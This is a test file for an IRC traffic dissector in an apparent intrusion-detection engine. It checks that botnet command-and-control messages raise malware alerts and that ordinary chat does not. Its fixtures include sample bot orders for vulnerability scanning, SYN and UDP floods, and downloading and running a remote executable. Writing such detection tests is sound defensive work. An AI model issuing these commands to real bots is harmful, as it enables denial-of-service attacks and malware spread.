/** IRC by hand: orders to bots, and what people write. */
import { expect, it, test } from 'vitest';
import { Rig } from '../engine-testing.ts';
import { connection } from '../rule/traffic-testing.ts';
import { NEED_MORE, NOT_OURS } from './dissector.ts';
import { irc } from './irc.ts';
import { ascii, dissectOne, testHostileBytes } from './it-testing.ts';

test('who joins what is told', () => {
  expect(dissectOne(irc, ascii('NICK [00|USA|4711]\r\n')).operations).toMatchObject([{ name: 'nick', object: '[00|USA|4711]' }]); // prettier-ignore
  expect(dissectOne(irc, ascii('JOIN #owned key\r\n')).operations).toMatchObject([{ name: 'join', object: '#owned' }]); // prettier-ignore
  expect(irc.messageBytes?.(ascii('PING :x\r\nPONG'), 0, 13)).toBe(9);
  expect(irc.messageBytes?.(ascii('PING'), 0, 4)).toBe(NEED_MORE);
  expect(irc.messageBytes?.(Uint8Array.of(1, 2), 0, 2)).toBe(NOT_OURS);
  expect(irc.looksLike?.(ascii('NICK bot\r\nUSER a b c :d\r\n'), 0, 25)).toBe(true);
});

it.each([
  [':m!m@x PRIVMSG #owned :.advscan lsass 100 5 0 -r -s', 1],
  [':srv 332 bot #owned :!ddos.syn 10.0.0.9 80 60', 1],
  [':m!m@x TOPIC #owned :.http.update http://10.0.0.9/x.exe', 1],
  [':m!m@x PRIVMSG #owned :!* UDP 10.0.0.9 80 60', 1],
  [':m!m@x PRIVMSG #plant :we should download http://example/x one day', 0],
  [':m!m@x PRIVMSG #plant :!weather 10.0.0.9', 0],
  [':m!m@x PRIVMSG #plant :udpflood is a tool', 0],
  [':srv 372 bot :.advscan', 0],
])('an order to bots is told, and no talk: %s', (line, count) => {
  expect(dissectOne(irc, ascii(`${line}\r\n`), { isFromClient: false }).facts).toHaveLength(count);
});

test('a host that is given orders is told', () => {
  const lines = [
    ['>', 'NICK bot\r\n'],
    ['<', ':m!m@x PRIVMSG #o :.advscan lsass 100 5 0\r\n'],
  ] as const;
  const rig = new Rig().add(connection('10.0.0.5:5000', '203.0.113.5:9999', lines, 0)).finish();
  expect(rig.alert('malware')).toMatchObject({ source: '10.0.0.5', severity: 'high' });
});

testHostileBytes(irc, [ascii('NICK x\r\n'), ascii(':m PRIVMSG #o :.advscan a\r\n')]);
